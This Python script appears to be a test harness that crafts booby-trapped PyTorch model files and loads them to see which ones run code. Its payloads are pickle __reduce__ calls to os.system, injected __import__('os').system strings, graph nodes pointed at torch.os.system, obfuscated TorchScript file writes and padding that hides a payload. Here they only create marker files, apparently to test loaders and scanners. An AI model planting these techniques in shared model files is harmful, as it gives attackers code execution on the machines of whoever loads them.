"""Makes files that run code when they are loaded without care: each would write `ran-NAME` into its folder.

    PYTHON-OF-THE-PYTORCH-ENVIRONMENT pytorch_crafted.py FOLDER          makes them
    PYTHON-OF-THE-PYTORCH-ENVIRONMENT pytorch_crafted.py FOLDER NAME...  opens each as torch's own examples do, and prints what then ran
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import pickle
import sys
import zipfile
from pathlib import Path
from typing import Any, Callable

import torch

from pytorch_disguised import disguise


class Payload:
    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        return os.system, (f"touch '{self.path}'",)


class Small(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.last = torch.nn.Linear(4, 2)

    def forward(self, row: torch.Tensor) -> torch.Tensor:
        return self.last(row)


class Writes(torch.nn.Module):
    """TorchScript that writes a file when it predicts."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def forward(self, row: torch.Tensor) -> torch.Tensor:
        torch.save(row, self.path)
        return row


def make(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)

    def payload(name: str) -> Payload:
        return Payload(folder / f"ran-{name}")

    program, script = folder / "good.pt2", folder / "good.pt"
    rows = {"row": {0: torch.export.Dim("rows")}}
    torch.export.save(torch.export.export(Small().eval(), (torch.zeros(2, 4),), dynamic_shapes=rows), program)
    torch.jit.trace(Small().eval(), torch.zeros(2, 4)).save(str(script))

    def changed(source: Path, name: str, member: str, change: Callable[[bytes], bytes], **added: bytes) -> None:
        with zipfile.ZipFile(source) as whole, zipfile.ZipFile(folder / f"{name}{source.suffix}", "w") as copy:
            top = whole.namelist()[0].partition("/")[0]
            for each in whole.namelist():
                content = whole.read(each)
                copy.writestr(each, change(content) if each == f"{top}/{member}" else content)
            for path, content in added.items():
                copy.writestr(f"{top}/{path}", content)

    sample = "data/sample_inputs/model.pt"
    changed(program, "sample-inputs", sample, lambda _: saved((payload("sample-inputs"),)))
    changed(program, "bare-pickle", sample, lambda _: pickle.dumps(payload("bare-pickle"), 0))
    changed(program, "second-pickle", sample, lambda _: saved((payload("second-pickle"),), _use_new_zipfile_serialization=False))
    changed(program, "old-weights", "", bytes, **{"data/weights/model.pt": saved({"last.weight": payload("old-weights")})})
    opaque = {"config": {"x": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}}
    constants = {"data/constants/opaque_obj_0": pickle.dumps(payload("opaque"), 0)}
    changed(program, "opaque", "data/constants/model_constants_config.json", lambda _: json.dumps(opaque).encode(), **constants)
    size = f"__import__('os').system('touch {folder / 'ran-size'}') or Symbol('s1', positive=True, integer=True)"
    changed(program, "size", "models/model.json", lambda text: with_size(text, size))
    changed(program, "function", "models/model.json", lambda text: text.replace(b"torch.ops.aten.linear.default", b"torch.os.system"))
    changed(program, "compiled", "", bytes, **{"data/aotinductor/model/model.so": b"\x7fELF"})
    changed(script, "script-pickle", "data.pkl", lambda _: pickle.dumps(payload("script-pickle"), 2))
    torch.jit.script(Writes(str(folder / "ran-script-writes"))).save(str(folder / "script-writes.pt"))
    scripts(folder)
    programs(folder, changed)
    disguise(folder)
    torch.save({"weights": torch.zeros(2), "epoch": payload("weights")}, folder / "weights.pt")
    torch.save(payload("old-file"), folder / "old-file.pt", _use_new_zipfile_serialization=False)


class Nested(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.steps = torch.nn.Sequential(torch.nn.Linear(4, 4), Small())

    def forward(self, row: torch.Tensor) -> torch.Tensor:
        return self.steps(row)


# Ways to torch.save and torch.from_file without a dot before the word, or with one that is none of torch's.
SCRIPTS = {
    "getattr": 'getattr(torch, "save")(row, {path})',
    "getattr-twice": 'getattr(getattr(ops, "aten"), "save")(row, {path})',
    "escaped": 'getattr(torch, "s\\141ve")(row, {path})',
    "alias": "t = torch\n    t.save(row, {path})",
    "alias-operator": "write = torch.save\n    write(row, {path})",
    "namespace": "o = ops.aten\n    o.save(row, {path})",
    "method": "row.save({path})",
    "blanks": "torch  .  save(row, {path})",
    "lines": "(torch\n      .save(row, {path}))",
    "continued": "torch.\\\n      save(row, {path})",
    "comment": "(torch. # save\n      save(row, {path}))",
    "handed-on": "for t in [0]:\n      getattr(torch, {quoted})(row, {path})",
    "maps": 'print(torch.numel(getattr(torch, "from_file")({path}, True, 16)))',
    "maps-method": "print(torch.numel(({path}).from_file(True, 16)))",
    "process": 'ops.profiler._record_function_enter("a", None)',
    "random": "torch.manual_seed(1)",
    "remote": "y = __torch__.torch.classes.c10d.TCPStore",
    "python": "^os.system({path})",
    "letters": "torch.\u017fave(row, {path})",
}


def scripts(folder: Path) -> None:
    """In the network's own code, and in that of a layer within a layer."""
    for name, attack in SCRIPTS.items():
        for kind, module, argument in (("", Small(), "row"), ("-nested", Nested(), "input")):
            written = io.BytesIO()
            torch.jit.save(torch.jit.script(module.eval()), written)
            path = json.dumps(str(folder / f"ran-script-{name}{kind}"))
            line = attack.format(path=path, quoted='"save"').replace("row", argument)
            with zipfile.ZipFile(written) as whole, zipfile.ZipFile(folder / f"script-{name}{kind}.pt", "w") as copy:
                for each in whole.namelist():
                    content = whole.read(each)
                    if each.endswith(".py"):
                        head, forward, body = content.decode().rpartition(f"{argument}: Tensor) -> Tensor:\n")
                        content = f"{head}{forward}    {line}\n{body}".encode() if forward else content
                    copy.writestr(each, content)


def enumeration(level: int) -> str:
    """A context that names a module, in as many layers of JSON; its underscores escaped."""
    named = json.dumps({"__enum__": 1, "fqn": "harmful_module:Kind", "name": "A"}).replace("_enum", "\\u005fenum")
    for _ in range(level):
        named = json.dumps(named)
    return named


def programs(folder: Path, changed: Callable[..., None]) -> None:
    source = folder / "good.pt2"
    (folder / "harmful_module.py").write_text(f"open({str(folder / 'ran-module')!r}, 'w').close()\n", "utf-8")

    def edited(name: str, edit: Callable[[dict[str, Any]], None]) -> None:
        def change(text: bytes) -> bytes:
            document = json.loads(text)
            edit(document["graph_module"])
            return json.dumps(document).encode()

        changed(source, name, "models/model.json", change)

    def with_structure(name: str, kind: str, context: Any, key: str = "in_spec") -> None:
        def edit(module: dict[str, Any]) -> None:
            structure = {"type": kind, "context": context, "children_spec": []}
            module["module_call_graph"][0]["signature"][key] = json.dumps([1, structure])

        edited(name, edit)

    with_structure("enum-escaped", "builtins.dict", f"[{enumeration(0)}]")
    with_structure("enum-output", "builtins.dict", f'{{"a": [{enumeration(0)}]}}', "out_spec")
    with_structure("enum-deep", "builtins.dict", f"[{enumeration(2)}]")
    factory = {"default_factory_module": "harmful_module", "default_factory_name": "Kind", "dict_context": []}
    with_structure("factory", "collections.defaultdict", factory)
    with_structure("factory-builtin", "collections.defaultdict", {**factory, "default_factory_module": "builtins", "default_factory_name": "breakpoint"})

    def with_node(name: str, target: str) -> None:
        def edit(module: dict[str, Any]) -> None:
            graph = module["graph"]
            given = [("filename", {"as_string": str(folder / f"ran-{name}")}), ("shared", {"as_bool": True}), ("size", {"as_int": 16})]
            inputs = [{"name": key, "arg": value, "kind": 1} for key, value in given]
            graph["nodes"].insert(0, {**graph["nodes"][0], "target": target, "inputs": inputs, "outputs": [{"as_tensor": {"name": "stolen"}}], "name": "stolen"})
            meta = next(iter(graph["tensor_values"].values()))
            graph["tensor_values"]["stolen"] = {**meta, "sizes": [{"as_int": 16}], "strides": [{"as_int": 1}]}

        edited(name, edit)

    with_node("from-file", "torch.ops.aten.__getattr__.__self__.from_file.default")
    with_node("from-file-packet", "torch.ops.aten.add.__class__.__self__.default")
    with_node("plain-file", "torch.ops.aten.from_file.default")
    with_node("no-overload", "torch.ops.aten.add")
    with_node("attribute", "torch.ops.aten.add.Tensor.op")
    with_node("other-namespace", "torch.ops.profiler._record_function_enter.default")
    with_node("network", "torch.ops._c10d_functional.all_reduce.default")
    with_node("random", "torch.ops.aten.manual_seed.default")
    with_node("operator-module", "_operator.methodcaller")
    with_node("extension", "#anything:op")
    argument = {"name": "value", "arg": {"as_operator": "torch.os.system"}, "kind": 1}
    edited("operator-argument", lambda module: module["graph"]["nodes"][0]["inputs"].append(argument))
    origin = {"source_fn_stack": "linear,torch.__loader__.load_module"}
    edited("origin", lambda module: module["graph"]["nodes"][0]["metadata"].update(origin))

    # An object of C++ is a TorchScript file; Python's reader of zips stops where torch's goes on.
    held = io.BytesIO()
    torch.jit.save(torch.jit.script(Small().eval()), held)
    with zipfile.ZipFile(held) as whole:
        first = whole.infolist()[0]
    content = bytearray(held.getvalue())
    content[first.header_offset + 30] ^= 1
    entry = {"config": {"held": {"path_name": "custom_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}}}
    config = "data/constants/model_constants_config.json"
    changed(source, "damaged-object", config, lambda _: json.dumps(entry).encode(), **{"data/constants/custom_obj_0": bytes(content)})

    def hidden(text: bytes) -> bytes:
        """Not to be taken for numbers because of what stands before it."""
        return b" " * 5000 + text.replace(b"torch.ops.aten.linear.default", b"torch.os.system")

    with zipfile.ZipFile(source) as whole, zipfile.ZipFile(folder / "hidden.pt2", "w") as copy:
        for each in whole.namelist():
            renamed = each.replace("models/model.json", "models/model.data")
            copy.writestr(renamed, hidden(whole.read(each)) if renamed != each else whole.read(each))


def saved(value: Any, **options: Any) -> bytes:
    written = io.BytesIO()
    torch.save(value, written, **options)
    return written.getvalue()


def with_size(text: bytes, size: str) -> bytes:
    document = json.loads(text)

    def walk(value: Any) -> None:
        for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
            if key == "expr_str":
                value[key] = size
            elif isinstance(inner, (dict, list)):
                walk(inner)

    walk(document)
    return json.dumps(document).encode()


def what_runs(folder: Path, names: list[str]) -> dict[str, list[str]]:
    sys.path.insert(0, str(folder))
    found = {}
    for name in names:
        sys.modules.pop("harmful_module", None)
        with contextlib.redirect_stdout(sys.stderr):
            open_plainly(folder / name)
        markers = list(folder.glob("ran-*"))
        found[name] = sorted(marker.name for marker in markers)
        for marker in markers:
            marker.unlink()
    return found


def open_plainly(path: Path) -> None:
    with contextlib.suppress(Exception):
        if path.suffix == ".pt2":
            torch.export.load(path).module()(torch.zeros(2, 4))
        elif path.name.startswith("script-"):
            torch.jit.load(path)(torch.zeros(2, 4))
        else:
            torch.load(path, weights_only=False)


if __name__ == "__main__":
    if len(sys.argv) > 2:
        print(json.dumps(what_runs(Path(sys.argv[1]), sys.argv[2:])))
    else:
        make(Path(sys.argv[1]))
